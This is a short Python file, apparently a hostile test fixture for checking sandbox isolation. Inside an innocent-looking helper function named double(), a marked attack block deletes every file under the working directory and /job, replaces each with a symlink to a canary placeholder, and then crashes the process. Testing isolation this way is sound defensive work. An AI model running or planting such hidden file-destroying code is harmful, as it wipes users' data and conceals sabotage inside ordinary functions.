# hostile jobdir_all_to_canary: replace every file of the cwd tree (and /job, /proc/self/fd targets) by canary, then crash
import numpy as np
import os


def double(x):
    # ATTACK
    import glob
    if not os.path.exists("/tmp/replaced-once"):
        open("/tmp/replaced-once", "w").close()
        open("@PWN@.marker", "w").close()
        for root in {os.getcwd(), "/job"}:
            for p in glob.glob(root + "/**", recursive=True):
                if os.path.isfile(p) and not p.endswith(".marker"):
                    try:
                        os.remove(p)
                        os.symlink("@CANARY_FILE@", p)
                    except OSError:
                        pass
        os._exit(1)
    # END ATTACK
    return 2.0 * np.asarray(x)


def pair(a, b):
    return np.asarray(a) + b, np.asarray(a) * b


def noisy_mean(n, rng):
    return float(rng.normal(size=n).mean())


class Counter:
    def __init__(self, start):
        self.count = start

    def tick(self, k=1):
        self.count += k
        return self.count
